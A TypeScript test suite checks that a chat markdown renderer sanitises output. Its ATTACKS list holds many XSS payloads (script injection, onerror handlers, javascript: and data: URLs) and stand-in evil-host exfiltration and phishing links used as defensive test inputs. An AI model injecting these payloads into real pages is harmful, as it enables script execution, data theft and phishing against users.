import assert from "node:assert/strict";
import { describe, it } from "node:test";
import fc from "fast-check";
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { linkTarget } from "../../../../components/message/markdown/link-target.ts";
import { MarkdownBlocks } from "../../../../components/message/markdown/markdown-blocks.ts";
import { ODD_ANSWERS } from "./corpus.ts";

const labels = { copy: "Copy", copied: "Copied", copyTable: "Copy table" };

function html(text: string, live = false): string {
  return renderToStaticMarkup(createElement(MarkdownBlocks, { text, live, labels }));
}

const TAGS =
  "p h3 h4 h5 h6 ul ol li blockquote hr br em strong del code a span figure header pre button div footer table thead tbody tr th td colgroup col sub sup kbd mark details summary section".split(
    " ",
  );
const ATTRIBUTES: Readonly<Record<string, RegExp>> = {
  dir: /^(?:auto|ltr|rtl)$/,
  class:
    /^(?:codeblock|tablebox|tablescroll|caret|(?:[lrc] ?)?(?:one-line|breaks)?|lines|task|box|host|btn plain|plain|guarded|tex|display|dotted|notes|note-mark|alert is-(?:note|tip|important|warning|caution)|alert-name)$/,
  id: /^_R_[\da-z]*_note\d+$/,
  "data-mark": /^_R_[\da-z]*_mark\d+$/,
  value: /^\d+$/,
  width: /^\d+$/,
  open: /^$/,
  "aria-label": /^(?:Footnotes?|)(?: ?\d+)?↩?$/,
  href: /^(?:#_R_[\da-z]*_(?:note|mark)\d+|https?:\/\/[^\s"<>\\]+|mailto:[^\s"<>\\]+)$/i,
  target: /^_blank$/,
  rel: /^noopener noreferrer nofollow ugc$/,
  start: /^\d{1,9}$/,
  tabindex: /^(?:0|-1)$/,
  type: /^button$/,
  scope: /^col$/,
  "aria-hidden": /^true$/,
  "aria-haspopup": /^dialog$/,
};

function assertAllowed(source: string, page: string): void {
  // Every `<` of the text is escaped by React, so every tag here was written by the renderer.
  for (const [, tag = "", attributes = ""] of page.matchAll(
    /<\/?([^\s>/]+)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/g,
  )) {
    assert.ok(TAGS.includes(tag), `<${tag}> from ${source}`);
    for (const [, name = "", value = ""] of attributes.matchAll(/([^\s=]+)(?:="([^"]*)")?/g)) {
      assert.match(value, ATTRIBUTES[name] ?? /^never$/, `${name}="${value}" from ${source}`);
    }
  }
  assert.equal(
    page.replace(/<\/?[a-z][a-z\d]*(?:\s+[a-z-]+="[^"]*")*\s*\/?>/g, "").includes("<"),
    false,
    source,
  );
}

const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<iframe><img title="</iframe><img src=x onerror=alert(1)>">',
  "<svg/onload=alert(1)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<form><input name=body></form>",
  '<div id="__NEXT_DATA__">',
  "<img name=self>",
  "<style>@import 'https://evil/x.css'</style>",
  "<link rel=stylesheet href=https://evil>",
  "<base href=//evil>",
  "<meta http-equiv=refresh content='0;url=https://evil'>",
  "<object data=x>",
  "<embed src=x>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?php echo 1 ?>",
  "<x contenteditable onblur=alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a](java\nscript:alert(1))",
  "[a](&#x6a;avascript:alert(1))",
  "[a](javascript&colon;alert(1))",
  "[a](data:text/html,<script>alert(1)</script>)",
  "[a](vbscript:x)",
  "[a](vscode://x)",
  "[a](blob:https://x)",
  "[a](file:///etc/passwd)",
  "[a](//evil.com)",
  "[a](\\\\\\\\evil.com)",
  "[a](/\\\\evil.com)",
  "[a](https:evil.com)",
  "[a](https:/evil.com)",
  "[a](https://bank.com@evil.com)",
  "[a](https://@evil.com)",
  "[a](https://bank.com%40evil.com)",
  "[a](#body)",
  "[a](/path)",
  "[a](<javascript:alert(1)>)",
  "[a](\u0001javascript:alert(1))",
  "[a](&#1;javascript:alert(1))",
  "[a](&Tab;javascript:alert(1))",
  '[a](https://x.com" onmouseover="alert(1))',
  "[a](https://x.com 'onmouseover=alert(1)')",
  "<javascript:alert(1)>",
  "<data:text/html,x>",
  "[a]: javascript:alert(1)\n\n[a]",
  "[a]: data:x\n\n![a] [x][a]",
  "![x](javascript:alert(1))",
  "![x](https://evil/?q=S)",
  "![x][i]\n\n[i]: https://evil/?q=S",
  '![x](https://evil "onload=alert(1)")',
  '![" onerror="alert(1)](https://evil)',
  '```" onload="alert(1)\nx\n```',
  "```<script>\n</code></pre><script>alert(1)</script>\n```",
  "`</code><script>alert(1)</script>`",
  "| <script> | a |\n|---|--:|\n| <img src=x onerror=alert(1)> | `</td>` |",
  "# <script>alert(1)</script> {#body onclick=alert(1)}",
  "- [x] <input onfocus=alert(1) autofocus>",
  "1) <b onclick=x>\n999999999. x",
  "> <script>\n> alert(1)",
  "[^1]: <script>\n\n[^1]",
  "https://x.com/<script>alert(1)</script>",
  'https://x.com/"onmouseover=alert(1)',
  "www.x.com/'><img>",
  "javascript:alert(1)",
  "\u202Egnp.exe",
  "x\u{E0041}\u{E0042}y",
  "{{constructor.constructor('alert(1)')()}}",
  "$\\href{javascript:alert(1)}{x}$",
];

describe("the renderer alone", () => {
  for (const text of ATTACKS) {
    it(`draws nothing but allowed tags and attributes: ${JSON.stringify(text).slice(0, 80)}`, () => {
      assertAllowed(text, html(text));
      for (let end = 0; end <= text.length; end++) assertAllowed(text, html(text.slice(0, end), true));
    });
  }

  it("draws nothing but allowed tags and attributes for attacks and answers in any mixture", () => {
    const part = fc.oneof(
      fc.constantFrom(...ATTACKS, ...ODD_ANSWERS.slice(0, 12)),
      fc.constantFrom("\n", "\n\n", "- ", "> ", "**", "|", "`", "```\n", "[", "](", ")", "<", "&"),
      fc.string({ maxLength: 8 }),
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 8 }), fc.boolean(), (parts, live) =>
        assertAllowed(parts.join(""), html(parts.join(""), live)),
      ),
      { numRuns: 500 },
    );
  });

  it("asks the network for nothing", () => {
    for (const text of ATTACKS)
      assert.doesNotMatch(html(text), /<[^>]*\s(?:src|srcset|style|background|poster|action|data|ping)=/);
  });

  it("shows a picture as words and a link that waits for a click", () => {
    assert.equal(
      html("![a cat](https://cats.example/c.png)"),
      '<p dir="auto"><a href="https://cats.example/c.png" target="_blank" rel="noopener noreferrer nofollow ugc">▢ a cat — image from cats.example</a></p>',
    );
    assert.equal(html("![a cat](data:image/png;base64,xx)"), '<p dir="auto">▢ a cat</p>');
  });

  it("shows raw HTML as the characters it is", () => {
    assert.equal(html("<b>x</b>"), '<p dir="auto">&lt;b&gt;x&lt;/b&gt;</p>');
  });

  it("shows bidi overrides and tag characters as marks, everywhere", () => {
    const hidden = "a\u202Eb\u2066c\u{E0041}\u{E0042}";
    const page = html(
      `${hidden}\n\n\`${hidden}\`\n\n\`\`\`${hidden}\n${hidden}\n\`\`\`\n\n| ${hidden} |\n|---|\n\n[${hidden}](https://x.com) ![${hidden}](https://x.com) [${hidden}][${hidden}] &#x202E;`,
    );
    assert.doesNotMatch(page, /[\u202A-\u202E\u2066-\u2069]|[\u{E0000}-\u{E007F}]/u);
    assert.match(page, /a⟦U\+202E⟧b⟦U\+2066⟧c⟦U\+E0041 ×2⟧/);
  });

  it("leaves headings one and two to the page", () => {
    assert.match(
      html("# a\n\n## b\n\n###### c"),
      /^<h3 dir="auto">a<\/h3><h4 dir="auto">b<\/h4><h6 dir="auto">c<\/h6>$/,
    );
  });
});

describe("a link", () => {
  const host = (text: string) => /<span class="host"> \(([^)]*)\)<\/span>/.exec(html(text))?.[1];
  it("whose words name another host shows the real one", () => {
    assert.equal(host("[https://bank.com](https://evil.com)"), "evil.com");
    assert.equal(host("[bank.com](https://evil.com)"), "evil.com");
    assert.equal(host("[log in at **bank.com** now](https://evil.com)"), "evil.com");
    assert.equal(host("[https://bank.com/evil.com](https://evil.com)"), "evil.com");
    assert.equal(host("[b][r]\n\n[r]: https://evil.com"), undefined);
    assert.equal(host("[bank.com][r]\n\n[r]: https://evil.com"), "evil.com");
  });

  it("to a look-alike or with a long query shows its host as it is on the wire", () => {
    assert.equal(host("[pay](https://аpple.com)"), "xn--pple-43d.com");
    assert.equal(host(`[pay](https://x.com/?q=${"s".repeat(80)})`), "x.com");
  });

  it("that names another place, or carries a text along, has no address in the page before it is clicked", () => {
    const carries = `https://evil.com/?q=${"s".repeat(80)}`;
    for (const text of [
      "[https://bank.com](https://evil.com)",
      "[bank.com][r]\n\n[r]: https://evil.com",
      `[pay](${carries})`,
      carries,
      `![x](${carries})`,
      `![x][r]\n\n[r]: ${carries}`,
    ]) {
      assert.match(html(text), /<button type="button" class="guarded" aria-haspopup="dialog">/, text);
      assert.doesNotMatch(html(text), /href=/, text);
    }
  });

  it("whose words are true shows them alone", () => {
    for (const text of [
      "[x.com](https://www.x.com/a)",
      "https://x.com/README.md",
      "[docs](https://x.com)",
      "[https://x.com/a](https://x.com/b)",
    ])
      assert.equal(host(text), undefined, text);
  });

  it("is inert unless it is a plain http, https or mailto address", () => {
    const bad = [
      "javascript:a",
      "java\nscript:a",
      "data:x",
      "vbscript:x",
      "vscode:x",
      "blob:https://x",
      "//evil",
      "\\\\evil",
      "/p",
      "#p",
      "",
      "https:x",
      "https:///x",
      "http://a@b",
      "https://a:b@c",
      "https://@c",
      "https://a\u200Bb.com",
      "https://a\u202Eb.com",
      "https://a b.com",
      "https://a.com\\@b",
      " https://a.com",
      "https://a.com\t",
      "mailto:",
      "https://[",
      "https://a.com:99999",
    ];
    for (const url of bad) assert.equal(linkTarget(url), null, JSON.stringify(url));
    for (const url of [
      "http://x.com",
      "HTTPS://x.com/?a=b#c",
      "mailto:a@b.co",
      "https://x.com/a@b",
      "https://127.0.0.1:8080/x",
    ])
      assert.notEqual(linkTarget(url), null, url);
  });
});
